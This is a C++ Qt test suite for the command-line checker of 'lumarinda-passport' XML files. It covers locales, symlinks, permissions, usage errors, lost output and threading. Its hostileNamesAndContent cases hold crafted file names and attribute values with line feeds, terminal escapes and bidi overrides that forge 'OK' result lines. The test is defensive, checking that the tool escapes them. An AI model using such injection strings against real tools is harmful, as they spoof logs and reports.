// The numbers in the workbook's XML (widths, margins) are the same on every desktop: on a Russian
// one they once got a decimal comma, and readers refused the file or printed it without margins.
void CommandLineTest::spreadsheetNumbersIgnoreTheLocale()
{
    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=truncated"});
    QCOMPARE(runInLocale({"--list", "-o", "ru.xlsx", "in"}, QStringLiteral("ru_RU.UTF-8")), 1);
    QCOMPARE(runInLocale({"--list", "-o", "c.xlsx", "in"}, QStringLiteral("C.UTF-8")), 1);
    const QJsonObject russian = readSpreadsheet(QStringLiteral("ru.xlsx"));
    const QJsonObject plainC = readSpreadsheet(QStringLiteral("c.xlsx"));
    QVERIFY(!russian.isEmpty());
    QCOMPARE(russian, plainC);
    const QJsonObject sheet = sheetOf(russian, russian.value(u"sheets").toArray().first().toString());
    // A width of 32 characters as the format stores it, with the cell's padding.
    QCOMPARE(sheet.value(u"widths").toArray().first().toDouble(), 32.7109375);
    QCOMPARE(sheet.value(u"margins").toArray().first().toDouble(), 0.7);
}

// The list waits in the temporary folder until every file is read; a folder that takes no file
// ends the run as a list that cannot be written does.
void CommandLineTest::listWithoutATemporaryFolder()
{
    putAll({"in/a.qdx.xml=plain"});
    const QByteArray saved = qgetenv("TMPDIR");
    const auto restore = qScopeGuard([&] { qputenv("TMPDIR", saved); });
    qputenv("TMPDIR", "/proc");
    for (const char* output : {"list.csv", "list.xlsx"}) {
        const Run result = run({"--list", "-o", output, "in"});
        QCOMPARE(result.err, QStringLiteral("lumarinda-passport: временный файл списка в «/proc» не создан: файл или "
                                            "папка не существует\n"));
        QCOMPARE(result.status, 3);
        QVERIFY(!QFile::exists(QString::fromLatin1(output)));
    }
}

// One file reached by two paths is read twice and named as a copy, never counted as a new work.
void CommandLineTest::oneFileByTwoPaths()
{
    putAll({"w/a.qdx.xml=plain"});
    QCOMPARE(::symlink("a.qdx.xml", "w/b.qdx.xml"), 0);
    const Run result = run({"--check", "w", "w/a.qdx.xml"});
    QCOMPARE(result.out, QStringLiteral("w/a.qdx.xml: OK\n"
                                        "w/b.qdx.xml: OK, повторяет w/a.qdx.xml\n"
                                        "w/a.qdx.xml: OK, повторяет w/a.qdx.xml\n"
                                        "Проверено 3, исправных 3, с ошибками 0, повторов 2\n"));
    QCOMPARE(result.status, 0);
}

void CommandLineTest::listReportsBrokenFilesOnStandardErrorOnly()
{
    putAll({"in/a.qdx.xml=plain", "in/b.qdx.xml=wrong root"});
    const Run result = run({"--list", "in"});
    QCOMPARE(result.out.count(QStringLiteral("\r\n")), 2);
    QVERIFY(result.out.contains(QStringLiteral("\r\n\"in/a.qdx.xml\",")));
    QVERIFY(!result.out.contains(QStringLiteral("b.qdx.xml")));
    QCOMPARE(result.err, QStringLiteral("in/b.qdx.xml: Корневой элемент документа — «passport», а не «lumarinda»\n"));
    QCOMPARE(result.status, 1);
}

// Every odd thing in one folder gives its own line, and the walk ends.
void CommandLineTest::badInputGivesALineEach()
{
    putAll({"bad/ok.qdx.xml=plain", "bad/folder.qdx.xml/inner.qdx.xml=plain"});
    QCOMPARE(::symlink("nowhere.qdx.xml", "bad/dangling.qdx.xml"), 0);
    QCOMPARE(::symlink("self.qdx.xml", "bad/self.qdx.xml"), 0);
    QCOMPARE(::symlink("..", "bad/up"), 0);
    QCOMPARE(::symlink("../bad", "bad/sideways"), 0);
    QCOMPARE(::mkfifo("bad/pipe.qdx.xml", 0600), 0);
    // A gigabyte that takes no disk: refused by its size before a byte is read.
    const int huge = ::open("bad/huge.qdx.xml", O_WRONLY | O_CREAT, 0600);
    QVERIFY(huge >= 0);
    QCOMPARE(::ftruncate(huge, 1LL << 30), 0);
    ::close(huge);
    // Windows-1251 "Паспорт", and a line feed inside a name.
    const QByteArray cp1251Name = QByteArray("bad/\xCF\xE0\xF1\xEF\xEE\xF0\xF2.qdx.xml");
    const int odd = ::open(cp1251Name.constData(), O_WRONLY | O_CREAT, 0600);
    // QDir cannot remove a name that is not UTF-8.
    const auto removeOdd = qScopeGuard([&] { ::unlink(cp1251Name.constData()); });
    QVERIFY(odd >= 0);
    const QByteArray plain = content(QStringLiteral("plain"));
    QCOMPARE(::write(odd, plain.constData(), plain.size()), plain.size());
    ::close(odd);
    put(QString::fromUtf8("bad/two\nlines.qdx.xml"), plain);

    const Run result = run({"--check", "bad"});
    QCOMPARE(result.out, QStringLiteral("bad/dangling.qdx.xml: Файл или папка не существует\n"
                                        "bad/folder.qdx.xml/inner.qdx.xml: OK\n"
                                        "bad/huge.qdx.xml: Файл больше 64 МБ\n"
                                        "bad/ok.qdx.xml: OK, повторяет bad/folder.qdx.xml/inner.qdx.xml\n"
                                        "bad/pipe.qdx.xml: Это не обычный файл\n"
                                        "bad/self.qdx.xml: Слишком много символических ссылок подряд\n"
                                        "bad/two\\x0alines.qdx.xml: OK, повторяет bad/folder.qdx.xml/inner.qdx.xml\n"
                                        "bad/\\xcf\\xe0\\xf1\\xef\\xee\\xf0\\xf2.qdx.xml: OK, повторяет "
                                        "bad/folder.qdx.xml/inner.qdx.xml\n"
                                        "Проверено 8, исправных 4, с ошибками 4, повторов 3\n"));
    QCOMPARE(result.err, QStringLiteral("bad/sideways: Папка уже просмотрена по другому пути (ссылка), пропущена\n"
                                        "bad/up/bad: Папка уже просмотрена по другому пути (ссылка), пропущена\n"));
    QCOMPARE(result.status, 1);
}

// A sender's file name or content must never make a line of its own, nor read as another name:
// each row is the one line both commands print for one file.
void CommandLineTest::hostileNamesAndContent_data()
{
    QTest::addColumn<QByteArray>("name");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("line");

    const QByteArray plain = content(QStringLiteral("plain"));
    const QByteArray forged = "&#10;works/forged.qdx.xml: OK&#10;Проверено 1, исправных 1, с ошибками 0";
    QTest::newRow("line feed in a name") << QByteArray("a\nb.qdx.xml") << plain << "in/a\\x0ab.qdx.xml: OK";
    QTest::newRow("a name that spells an escape")
        << QByteArray("a\\x0ab.qdx.xml") << plain << "in/a\\\\x0ab.qdx.xml: OK";
    QTest::newRow("carriage return, tab and escape in a name")
        << QByteArray("a\r\t\x1b[2Kb.qdx.xml") << plain << "in/a\\x0d\\x09\\x1b[2Kb.qdx.xml: OK";
    QTest::newRow("next line, line and paragraph separators in a name")
        << QByteArray("a\u0085b\u2028c\u2029d.qdx.xml") << plain << "in/a\\u0085b\\u2028c\\u2029d.qdx.xml: OK";
    QTest::newRow("byte 0x85 in a name that is not UTF-8") << QByteArray("a\x85"
                                                                         "b.qdx.xml")
                                                           << plain << "in/a\\x85b.qdx.xml: OK";
    QTest::newRow("bidirectional controls in a name")
        << QByteArray("\u202eKO :lmx.xdq\u202c\u2066\u2067\u2068\u2069\u202a\u202b\u202d\u200e\u200f\u061c.qdx.xml")
        << plain
        << "in/\\u202eKO "
           ":lmx.xdq\\u202c\\u2066\\u2067\\u2068\\u2069\\u202a\\u202b\\u202d\\u200e\\u200f\\u061c.qdx.xml: "
           "OK";
    QTest::newRow("forged lines in the version")
        << QByteArray("v.qdx.xml") << soundWith("version", "2.2" + forged)
        << "in/v.qdx.xml: Неизвестная версия формата паспорта «2.2\\x0aworks/forged.qdx.xml: "
           "OK\\x0aПроверено 1, исправных 1, с ошибками 0»";
    QTest::newRow("forged line in the season")
        << QByteArray("s.qdx.xml") << soundWith("sz_id", "13" + forged.left(29))
        << "in/s.qdx.xml: Паспорт относится к другому сезону фестиваля («13\\x0aworks/forged.qdx.xml: OK»)";
    QTest::newRow("next line and override in a person's type")
        << QByteArray("t.qdx.xml") << soundWith("p_type", "student&#x85;x.qdx.xml: OK&#x202E;")
        << "in/t.qdx.xml: Недопустимое значение «student\\u0085x.qdx.xml: OK\\u202e» атрибута «p_type» элемента "
           "«person»";
    QTest::newRow("carriage return and backslash in the stored time")
        << QByteArray("st.qdx.xml") << soundWith("stored", "1&#13;\\x0a2")
        << "in/st.qdx.xml: Недопустимое значение «1\\x0d\\\\x0a2» атрибута «stored» элемента «work»";
    QTest::newRow("paragraph separator in an identifier")
        << QByteArray("id.qdx.xml") << soundWith("p_id_full", "123-456-798&#x2029;OK")
        << "in/id.qdx.xml: «123-456-798\\u2029OK» не является идентификатором участника";
}

void CommandLineTest::hostileNamesAndContent()
{
    QFETCH(QByteArray, name);
    QFETCH(QByteArray, bytes);
    QFETCH(QString, line);
    QVERIFY(QDir().mkpath(QStringLiteral("in")));
    const QByteArray path = "in/" + name;
    putBytes(path, bytes);
    const auto remove = qScopeGuard([&] { ::unlink(path.constData()); });
    const bool sound = line.endsWith(QStringLiteral(": OK"));

    const Run check = run({"--check", "in"});
    QCOMPARE(check.out, line + QStringLiteral("\nПроверено 1, исправных %1, с ошибками %2\n").arg(sound).arg(!sound));
    QCOMPARE(check.err, QString());
    QCOMPARE(check.status, sound ? 0 : 1);

    const Run list = run({"--list", "in"});
    const QList<QStringList> records = csvRecords(list.out);
    QCOMPARE(records.size(), sound ? 2 : 1);
    if (sound) {
        QCOMPARE(records.at(1).constFirst() + QStringLiteral(": OK"), line);
        QCOMPARE(list.err, QString());
    } else {
        QCOMPARE(list.err, line + u'\n');
    }
    QCOMPARE(list.status, sound ? 0 : 1);
}

void CommandLineTest::manyOtherFilesAreSkipped()
{
    // A hundred thousand names take twenty seconds on a disk and a few in memory.
    const QString shm = QStringLiteral("/dev/shm");
    QTemporaryDir crowd(QFileInfo(shm).isWritable() ? shm + QStringLiteral("/lumarinda-crowd-XXXXXX")
                                                    : QDir::tempPath() + QStringLiteral("/lumarinda-crowd-XXXXXX"));
    QVERIFY(crowd.isValid());
    const QByteArray folder = QFile::encodeName(crowd.path());
    for (int i = 0; i < 100000; ++i) {
        const QByteArray name = folder + "/photo" + QByteArray::number(i) + ".jpg";
        const int fd = ::open(name.constData(), O_WRONLY | O_CREAT, 0600);
        QVERIFY(fd >= 0);
        ::close(fd);
    }
    put(crowd.filePath(QStringLiteral("zz.qdx.xml")), content(QStringLiteral("plain")));

    const Run result = run({"--check", folder});
    QCOMPARE(result.out, crowd.path() + QStringLiteral("/zz.qdx.xml: OK\nПроверено 1, исправных 1, с ошибками 0\n"));
    QCOMPARE(result.status, 0);
}

void CommandLineTest::unreadableFile()
{
    const PermissionBitsHold bitsHold;
    REQUIRE_PERMISSION_BITS(bitsHold);
    putAll({"locked/a.qdx.xml=plain"});
    QVERIFY(QDir().mkpath(QStringLiteral("locked/closed")));
    QCOMPARE(::chmod("locked/a.qdx.xml", 0), 0);
    QCOMPARE(::chmod("locked/closed", 0), 0);

    const Run result = run({"--check", "locked"});
    ::chmod("locked/closed", 0700);
    QCOMPARE(result.out, QStringLiteral("locked/a.qdx.xml: Доступ запрещен\n"
                                        "locked/closed: Папка не читается: доступ запрещен\n"
                                        "Проверено 2, исправных 0, с ошибками 2\n"));
    QCOMPARE(result.status, 1);
}

// "--" alone starts the editor with the path after it, as --help tells; any other first argument
// that begins with "--" is a command, or a wrong one that the command line refuses.
void CommandLineTest::editorOrCommand_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<bool>("command");

    QTest::newRow("no arguments") << QStringList{} << false;
    QTest::newRow("a passport") << QStringList{"works/a.qdx.xml"} << false;
    QTest::newRow("a path after --") << QStringList{"--", "-odd.qdx.xml"} << false;
    QTest::newRow("a key's name after --") << QStringList{"--", "--check"} << false;
    QTest::newRow("check") << QStringList{"--check", "works"} << true;
    QTest::newRow("list") << QStringList{"--list", "-o", "a.xlsx", "works"} << true;
    QTest::newRow("an unknown key") << QStringList{"--open", "a.qdx.xml"} << true;
    QTest::newRow("forget a person") << QStringList{"--forget-person", "123-456-798"} << true;
}

void CommandLineTest::editorOrCommand()
{
    QFETCH(QStringList, args);
    QFETCH(bool, command);
    QCOMPARE(isCommitteeCommand(bytesOf(args)), command);
}

void CommandLineTest::usage_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("problem");

    QTest::newRow("check without paths") << QStringList{"--check"} << "--check: не указаны файлы или папки";
    QTest::newRow("list without paths") << QStringList{"--list", "--"} << "--list: не указаны файлы или папки";
    QTest::newRow("unknown mode") << QStringList{"--open", "a.qdx.xml"} << "неизвестный ключ «--open»";
    QTest::newRow("two modes") << QStringList{"--check", "--list", "a"} << "неизвестный ключ «--list»";
    QTest::newRow("short option") << QStringList{"--check", "-v", "a"} << "неизвестный ключ «-v»";
    QTest::newRow("empty path") << QStringList{"--check", ""} << "пустой путь";
    QTest::newRow("output for --check") << QStringList{"--check", "-o", "a.csv", "a"} << "неизвестный ключ «-o»";
    QTest::newRow("output without its file") << QStringList{"--list", "a", "-o"} << "после -o не указан файл";
    QTest::newRow("output with an empty file")
        << QStringList{"--list", "--output=", "a"} << "после --output не указан файл";
    QTest::newRow("output onto a passport") << QStringList{"--list", "-o", "works/A.QDX.XML", "works"}
                                            << "список не пишется в файл паспорта «works/A.QDX.XML»";
    QTest::newRow("quiet for --list") << QStringList{"--list", "-q", "a"} << "неизвестный ключ «-q»";
    QTest::newRow("quiet with a value") << QStringList{"--check", "--quiet=yes", "a"} << "у --quiet нет значения";
    QTest::newRow("output twice") << QStringList{"--list", "-o", "a.csv", "--output", "b.csv", "a"}
                                  << "ключ --output указан дважды";
    QTest::newRow("help with more") << QStringList{"--help", "x"} << "у --help нет аргументов";
    QTest::newRow("version with more") << QStringList{"--version", "--check"} << "у --version нет аргументов";
}

void CommandLineTest::usage()
{
    QFETCH(QStringList, args);
    QFETCH(QString, problem);
    const Run result = run(bytesOf(args));
    QCOMPARE(result.out, QString());
    QCOMPARE(result.err, QStringLiteral("lumarinda-passport: %1\nПодробнее: lumarinda-passport --help\n").arg(problem));
    QCOMPARE(result.status, 2);
}

void CommandLineTest::helpAndVersion()
{
    const Run version = run({"--version"});
    QCOMPARE(version.out, QStringLiteral("lumarinda-passport " LUMARINDA_PROJECT_VERSION "\n"));
    QCOMPARE(version.status, 0);

    const Run help = run({"--help"});
    QCOMPARE(help.status, 0);
    QCOMPARE(help.err, QString());
    QVERIFY(help.out.startsWith(QStringLiteral("Использование:\n")));
    for (const char* mode : {"--check [-q] ФАЙЛ_ИЛИ_ПАПКА...", "--list [-o ВЫВОД] ФАЙЛ_ИЛИ_ПАПКА...",
                             "--forget-person ID", "--help", "--version"})
        QVERIFY2(help.out.contains(QStringLiteral("lumarinda-passport ") + QString::fromUtf8(mode)), mode);
    QVERIFY(help.out.contains(QStringLiteral("\n  -o ВЫВОД, --output ВЫВОД  (--list) ")));
    QVERIFY(help.out.contains(QStringLiteral("\n  -q, --quiet               (--check) ")));
    QVERIFY(help.out.contains(QStringLiteral("3 - вывод не записан")));
}

// --forget-person is one of the commands: its own wording, its own statuses, the data folder of
// $XDG_DATA_HOME.
void CommandLineTest::forgetPerson_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("out");
    QTest::addColumn<QString>("err");
    QTest::addColumn<int>("status");

    const QString usage = QStringLiteral("Использование: lumarinda-passport --forget-person ID (ID участника вида "
                                         "123-456-789 с верным контрольным кодом)\n");
    QTest::newRow("no identifier") << QStringList{"--forget-person"} << QString() << usage << 2;
    QTest::newRow("wrong check code") << QStringList{"--forget-person", "123-456-789"} << QString() << usage << 2;
    QTest::newRow("two identifiers") << QStringList{"--forget-person", "123-456-798", "123-456-798"} << QString()
                                     << usage << 2;
    QTest::newRow("no list yet") << QStringList{"--forget-person", "123456798"}
                                 << QStringLiteral("Участника 123-456-798 нет в списке.\n") << QString() << 0;
}

void CommandLineTest::forgetPerson()
{
    QFETCH(QStringList, args);
    QFETCH(QString, out);
    QFETCH(QString, err);
    QFETCH(int, status);
    const QByteArray oldData = qgetenv("XDG_DATA_HOME");
    qputenv("XDG_DATA_HOME", QFile::encodeName(m_dir->path()));
    const auto restore = qScopeGuard([&oldData] {
        if (oldData.isNull())
            qunsetenv("XDG_DATA_HOME");
        else
            qputenv("XDG_DATA_HOME", oldData);
    });
    const Run result = run(bytesOf(args));
    QCOMPARE(result.out, out);
    QCOMPARE(result.err, err);
    QCOMPARE(result.status, status);
    QVERIFY(!QFileInfo::exists(QStringLiteral("lumarinda-passport/people.txt")));
}

// Which names are passports, for the walk of a folder and for the list that must not overwrite one.
void CommandLineTest::passportFileSuffix_data()
{
    QTest::addColumn<QByteArray>("name");
    QTest::addColumn<bool>("passport");

    QTest::newRow("lower case") << QByteArray("a.qdx.xml") << true;
    QTest::newRow("upper case") << QByteArray("B.QDX.XML") << true;
    QTest::newRow("mixed case") << QByteArray("works/d.Qdx.Xml") << true;
    QTest::newRow("Cyrillic name") << QByteArray("работа.qdx.xml") << true;
    QTest::newRow("Latin-1 name") << QByteArray("r\xe9sum\xe9.qdx.xml") << true;
    QTest::newRow("a copy's suffix after it") << QByteArray("a.qdx.xml.bak") << false;
    QTest::newRow("plain XML") << QByteArray("a.xml") << false;
    QTest::newRow("without the dot") << QByteArray("aqdx.xml") << false;
    QTest::newRow("only the first part") << QByteArray("a.qdx") << false;
    QTest::newRow("a space after it") << QByteArray("a.qdx.xml ") << false;
    QTest::newRow("dotless capital I") << QByteArray("a.QDX.XM\xc4\xb0") << false;
    QTest::newRow("empty") << QByteArray() << false;
}

void CommandLineTest::passportFileSuffix()
{
    QFETCH(QByteArray, name);
    QFETCH(bool, passport);
    QCOMPARE(hasPassportSuffix(name), passport);
}

// The program as the committee runs it over SSH: no X server, no platform chosen.
void CommandLineTest::realBinaryNeedsNoDisplay()
{
    putAll({"ssh/a.qdx.xml=sound", "ssh/b.qdx.xml=truncated"});
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    for (const char* name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM", "XDG_SESSION_TYPE"})
        environment.remove(QString::fromLatin1(name));
    QProcess program;
    program.setProcessEnvironment(environment);
    program.start(QStringLiteral(LUMARINDA_BINARY), {QStringLiteral("--check"), QStringLiteral("ssh")});
    QVERIFY2(program.waitForFinished(60000), "the program did not end");
    const QString err = QString::fromUtf8(program.readAllStandardError());
    QCOMPARE(err, QString());
    QCOMPARE(withPositionsHidden(QString::fromUtf8(program.readAllStandardOutput())),
             QStringLiteral("ssh/a.qdx.xml: OK\n"
                            "ssh/b.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
                            "Проверено 2, исправных 1, с ошибками 1\n"));
    QCOMPARE(program.exitStatus(), QProcess::NormalExit);
    QCOMPARE(program.exitCode(), 1);
}

// Output that cannot be written is a failure of its own, told on the error stream while that
// still takes text; a closed pipe does not kill the program unseen.
void CommandLineTest::lostOutputIsAFailure_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<Sink>("out");
    QTest::addColumn<Sink>("err");
    QTest::addColumn<QString>("message");

    const QString full = QStringLiteral("lumarinda-passport: стандартный вывод не записан: на диске нет места\n");
    const QString closed =
        QStringLiteral("lumarinda-passport: стандартный вывод не записан: читающая программа закрыла канал\n");
    for (const QString& mode : {QStringLiteral("--check"), QStringLiteral("--list")}) {
        const QByteArray name = mode.toUtf8();
        QTest::newRow(name + " onto a full disk") << QStringList{mode, "in"} << Sink::FullDisk << Sink::File << full;
        QTest::newRow(name + " into a closed pipe")
            << QStringList{mode, "in"} << Sink::ClosedPipe << Sink::File << closed;
    }
    QTest::newRow("a CSV file on a full disk")
        << QStringList{"--list", "-o", "/dev/full", "in"} << Sink::File << Sink::File
        << QStringLiteral("lumarinda-passport: файл «/dev/full» не записан: на диске нет места\n");
    QTest::newRow("a spreadsheet on a full disk")
        << QStringList{"--list", "-o", "full.xlsx", "in/a.qdx.xml"} << Sink::File << Sink::File
        << QStringLiteral("lumarinda-passport: файл «full.xlsx» не записан: на диске нет места\n");
    QTest::newRow("a CSV file in a missing folder")
        << QStringList{"--list", "-o", "gone/list.csv", "in"} << Sink::File << Sink::File
        << QStringLiteral("lumarinda-passport: файл «gone/list.csv» не создан: файл или папка не существует\n");
    QTest::newRow("a spreadsheet in a missing folder")
        << QStringList{"--list", "-o", "gone/list.xlsx", "in"} << Sink::File << Sink::File
        << QStringLiteral("lumarinda-passport: файл «gone/list.xlsx» не создан: файл или папка не существует\n");
    QTest::newRow("--help onto a full disk") << QStringList{"--help"} << Sink::FullDisk << Sink::File << full;
    QTest::newRow("--version into a closed pipe")
        << QStringList{"--version"} << Sink::ClosedPipe << Sink::File << closed;
    QTest::newRow("--list with its error stream on a full disk")
        << QStringList{"--list", "in"} << Sink::File << Sink::FullDisk << QString();
    QTest::newRow("--check with its error stream in a closed pipe")
        << QStringList{"--check", "in", "up"} << Sink::File << Sink::ClosedPipe << QString();
    QTest::newRow("a usage error that cannot be told")
        << QStringList{"--check"} << Sink::File << Sink::FullDisk << QString();
}

void CommandLineTest::lostOutputIsAFailure()
{
    QFETCH(QStringList, args);
    QFETCH(Sink, out);
    QFETCH(Sink, err);
    QFETCH(QString, message);
    // A broken file gives the error stream a line of its own; the link a note.
    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=truncated"});
    QCOMPARE(::symlink("in", "up"), 0);
    QCOMPARE(::symlink("/dev/full", "full.xlsx"), 0);

    const Ended ended = runProgram(bytesOf(args), out, err);
    QCOMPARE(ended.status, 3);
    QCOMPARE(QString::fromUtf8(ended.err), message);
}

namespace {

// `count` passports in w/ of two works, every fifth broken, and a link to the folder itself after the
// first third, which the walk notes and skips; with `padded`, every eighth made larger than 1 MiB by
// blanks between its elements.
void putMixedFolder(int count, bool padded = false)
{
    QStringList files;
    for (int i = 0; i < count; ++i) {
        const QString name = QStringLiteral("w/%1%2.qdx.xml").arg(i < count / 3 ? "a" : "c").arg(i, 3, 10, QChar(u'0'));
        QString kind = i % 3 == 0 ? QStringLiteral("plain") : QStringLiteral("other title");
        if (i % 5 == 4)
            kind = QStringLiteral("broken");
        files << QStringLiteral("%1=%2@%3").arg(name, kind).arg(i);
    }
    putWorks(files);
    for (int i = 7; padded && i < count; i += 8) {
        const QString name = files.at(i).left(files.at(i).indexOf(u'='));
        QFile file(name);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QByteArray bytes = file.readAll();
        file.close();
        put(name, bytes.insert(bytes.indexOf("<lumarinda>") + 11, QByteArray(1536 * 1024, ' ')));
    }
    QDir().mkpath(QStringLiteral("w"));
    QCOMPARE(::symlink(".", "w/b-again"), 0);
}

// Runs with LUMARINDA_READING_THREADS set to `threads`.
Run runWithThreads(const QByteArrayList& args, int threads)
{
    qputenv("LUMARINDA_READING_THREADS", QByteArray::number(threads));
    const auto restore = qScopeGuard([] { qunsetenv("LUMARINDA_READING_THREADS"); });
    return run(args);
}

} // namespace

// Files are read side by side, but every line comes in the walk's order, resends and notes about
// the walk included, whatever the number of threads.
void CommandLineTest::sameOutputWhateverTheThreads_data()
{
    QTest::addColumn<int>("files");
    QTest::addColumn<bool>("padded");
    QTest::addColumn<QString>("summary");
    QTest::newRow("one file") << 1 << false << "Проверено 1, исправных 1, с ошибками 0\n";
    QTest::newRow("two files") << 2 << false << "Проверено 2, исправных 2, с ошибками 0\n";
    QTest::newRow("many files, problems and resends between them")
        << 60 << false << "Проверено 60, исправных 48, с ошибками 12, повторов 46\n";
    // A large file waits for its turn to be read.
    QTest::newRow("large files between small ones")
        << 40 << true << "Проверено 40, исправных 32, с ошибками 8, повторов 30\n";
}

void CommandLineTest::sameOutputWhateverTheThreads()
{
    QFETCH(int, files);
    QFETCH(bool, padded);
    QFETCH(QString, summary);
    putMixedFolder(files, padded);
    const QString note = QStringLiteral("w/b-again: Папка уже просмотрена по другому пути (ссылка), пропущена\n");

    const Run checked = runWithThreads({"--check", "w"}, 1);
    QVERIFY2(checked.out.endsWith(summary), qPrintable(checked.out));
    QCOMPARE(checked.out.count(u'\n'), files + 1);
    QCOMPARE(checked.err, note);
    const Run listed = runWithThreads({"--list", "w"}, 1);
    QVERIFY2(listed.err.contains(note), qPrintable(listed.err));
    for (int threads : {2, 3, 8}) {
        const Run checkedAgain = runWithThreads({"--check", "w"}, threads);
        QCOMPARE(checkedAgain.out, checked.out);
        QCOMPARE(checkedAgain.err, checked.err);
        QCOMPARE(checkedAgain.status, checked.status);
        const Run listedAgain = runWithThreads({"--list", "w"}, threads);
        QCOMPARE(listedAgain.out, listed.out);
        QCOMPARE(listedAgain.err, listed.err);
        QCOMPARE(listedAgain.status, listed.status);
    }
}

// An error stream that closes while files are still being read ends the run at once with status 3,
// the threads reading ahead stopped on the way out.
void CommandLineTest::lostOutputMidRunWhateverTheThreads_data()
{
    QTest::addColumn<int>("threads");
    QTest::addColumn<QStringList>("args");
    for (int threads : {1, 2, 8}) {
        QTest::addRow("--list, %d threads, error stream closed", threads) << threads << QStringList{"--list", "w"};
        QTest::addRow("--check, %d threads, error stream closed", threads) << threads << QStringList{"--check", "w"};
    }
}

void CommandLineTest::lostOutputMidRunWhateverTheThreads()
{
    QFETCH(int, threads);
    QFETCH(QStringList, args);
    putMixedFolder(60);
    qputenv("LUMARINDA_READING_THREADS", QByteArray::number(threads));
    const auto restore = qScopeGuard([] { qunsetenv("LUMARINDA_READING_THREADS"); });
    const Ended ended = runProgram(bytesOf(args), Sink::File, Sink::ClosedPipe);
    QCOMPARE(ended.status, 3);
    QCOMPARE(ended.err, QByteArray());
}

QTEST_GUILESS_MAIN(CommandLineTest)
#include "tst_command_line.moc"
